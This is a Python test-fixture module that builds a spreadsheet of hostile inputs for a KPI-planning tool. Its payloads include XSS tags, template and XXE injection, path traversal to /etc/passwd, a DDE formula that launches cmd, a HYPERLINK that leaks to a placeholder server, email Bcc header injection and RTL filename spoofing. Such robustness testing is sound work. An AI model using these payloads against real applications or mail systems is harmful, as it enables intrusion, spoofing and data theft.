"""A workbook in which every cell for a person's words holds something that is not meant well."""

from __future__ import annotations

from pathlib import Path

import xlsxwriter

from kpixl.plan.cells import CellValue
from kpixl.plan.schema import COMMENTS, GOALS, RECIPIENTS, Column
from kpixl.words import word

RTL, POP, ISOLATE, MARK = "\u202e", "\u202c", "\u2067", "\u061c"
NEXT_LINE, CSI = "\x85", "\x9b"

HOSTILE = {
    "script": "<script>alert(1)</script></style></title></svg><img src=x onerror=alert(2)>",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}{0}{found}{self.__class__}%s%(x)s$x",
    "file": '<img src="file:///etc/passwd"> url(file:///etc/passwd) ../../../etc/passwd',
    "web": '<img src="{server}/pixel.png"> @import url({server}/x.css); {server}/plain',
    "rtl": f"safe {RTL}gnp.exe{POP} {ISOLATE}xslx{MARK} end",
    "control": f"bell\x07 esc\x1b[31m null\x00 csi{CSI}2J nel{NEXT_LINE}x tab\tline\nend",
    "emoji": "rocket 🚀 family 👨‍👩‍👧 flag 🇯🇵 shrug 🤷🏽‍♀️ kanji 𠮷野家",
    "formula": "=cmd|' /C calc'!A0",
    "sum": '@SUM(1+1)*HYPERLINK("{server}/leak")',
    "header": "Subject: x\r\nBcc: victim@example.com\r\n\r\n<b>body</b>",
    "quotes": '" onmouseover="alert(3)" \' onload=\'alert(4) \\22 ; } * { display: none } /* ]]>'
    "<!--",
    "path": "..\\..\\CON:|?*/../../x",
    "entities": "&lt;b&gt; &amp;amp; &#x3c; &nbsp; <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    "combining": "Z" + "\u0301\u0302\u0303\u0304" * 12 + " zal\u200bgo \u00ad\ufeff",
    "hebrew": "שלום עולם 12 مرحبا",
}
"""Text by the harm that it tries to do; ``{server}`` is a web server that must not be asked."""

ROLES = ("name", "owner", "department", "unit", "why")
MONTHS = tuple(f"2026-{month:02}" for month in range(1, 13))
WRITTEN_TO = ("script", "rtl", "header")
REVIEW = "2026-09"
ADDRESS = "{kind}@example.com"
SETTINGS = {"company": "script", "title": "rtl", "confidentiality": "quotes"}
"""Which of them stands for which setting."""


def saying(kind: str, role: str, server: str) -> str:
    """The hostile text of a kind, marked with where it stands so that none is taken for another."""
    return f"{HOSTILE[kind]} ({kind} {role})".replace("{server}", server)


def goal_id(kind: str) -> str:
    """IDs are text too; some of them are what they look like."""
    return {"script": "<B>1</B>", "quotes": "Q'\"&", "emoji": "🚀1"}.get(kind, kind.upper())


def write_hostile(path: Path, server: str, **settings: str) -> Path:
    """The workbook, as a spreadsheet program would write it: control characters escaped, text
    that begins like a formula kept as text."""
    with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False}) as book:
        for name, rows in _sheets(server, settings).items():
            sheet = book.add_worksheet(word(f"sheet.{name}", "en"))
            for line, cells in enumerate(rows):
                for column, value in enumerate(cells):
                    if isinstance(value, str):
                        sheet.write_string(line, column, value)
                    elif isinstance(value, (int, float)):
                        sheet.write_number(line, column, value)
    return path


def _sheets(server: str, settings: dict[str, str]) -> dict[str, list[list[CellValue]]]:
    return {
        "settings": _settings(server, settings),
        "goals": [_header(GOALS.columns), *_goals(server)],
        "plan": _monthly(100.0, 12),
        "actuals": _monthly(60.0, 9),
        "actions": _actions(server),
        "comments": [_header(COMMENTS.columns), *_comments(server)],
        "recipients": [_header(RECIPIENTS.columns), *_recipients(server)],
    }  # fmt: skip


def _header(columns: tuple[Column, ...]) -> list[CellValue]:
    return [word(f"column.{column.key}", "en") for column in columns]


def _settings(server: str, more: dict[str, str]) -> list[list[CellValue]]:
    told: dict[str, CellValue] = {
        "review_month": REVIEW, "state": "final", "fiscal_start": 1, "language": "English",
        "book_id": saying("path", "book", server),
    }  # fmt: skip
    told |= {key: saying(kind, key, server) for key, kind in SETTINGS.items()} | more
    rows: list[list[CellValue]] = [["Key", "Value"]]
    return rows + [[word(f"setting.{key}", "en"), value] for key, value in told.items()]


def _goals(server: str) -> list[list[CellValue]]:
    def row(**cells: CellValue) -> list[CellValue]:
        return [cells.get(column.key) for column in GOALS.columns]

    fixed: dict[str, CellValue] = {"direction": "Higher", "aggregation": "Sum"}
    kpis = [
        row(
            id=goal_id(kind), parent="CSF", level="KPI", scale="k", **fixed,
            **{role: saying(kind, role, server) for role in ROLES},
        )
        for kind in HOSTILE
    ]  # fmt: skip
    return [
        row(id="KGI", level="KGI", name="Sales", owner="A", unit="USD", **fixed),
        row(id="CSF", parent="KGI", level="CSF", name="Factor", owner="A", unit="", **fixed),
        *kpis,
    ]


def _monthly(level: float, months: int) -> list[list[CellValue]]:
    rows: list[list[CellValue]] = [["ID", *MONTHS]]
    for kind in ("KGI", *HOSTILE):
        name = kind if kind == "KGI" else goal_id(kind)
        rows.append([name, *(level * 1000 for _ in range(months))])
    return rows


def _actions(server: str) -> list[list[CellValue]]:
    columns = ["action_id", "goal_id", "raised", "cause", "countermeasure", "owner", "due",
               "started", "done", "expected_effect", "result", "decision", "decided"]  # fmt: skip
    rows: list[list[CellValue]] = [[word(f"column.{name}", "en") for name in columns]]
    for number, kind in enumerate(HOSTILE, 1):
        texts = {
            role: saying(kind, role, server)
            for role in ("cause", "countermeasure", "expected_effect", "result")
        }
        told: dict[str, CellValue] = {
            "action_id": f"A{number}", "goal_id": goal_id(kind), "raised": "2026-06-01",
            "owner": saying(kind, "action", server), "due": "2026-08-31",
            "started": "2026-06-02", "done": "2026-07-01", **texts,
        }  # fmt: skip
        rows.append([told.get(name) for name in columns])
    return rows


def _comments(server: str) -> list[list[CellValue]]:
    return [
        [goal_id(kind), REVIEW, saying(kind, "comment", server), saying(kind, "author", server)]
        for kind in HOSTILE
    ]


def _recipients(server: str) -> list[list[CellValue]]:
    rows: list[list[CellValue]] = []
    for kind in WRITTEN_TO:
        scope = f"owner:{saying(kind, 'owner', server)}"
        rows.append([saying(kind, "recipient", server), ADDRESS.format(kind=kind), "To", scope,
                     "English"])  # fmt: skip
    return rows
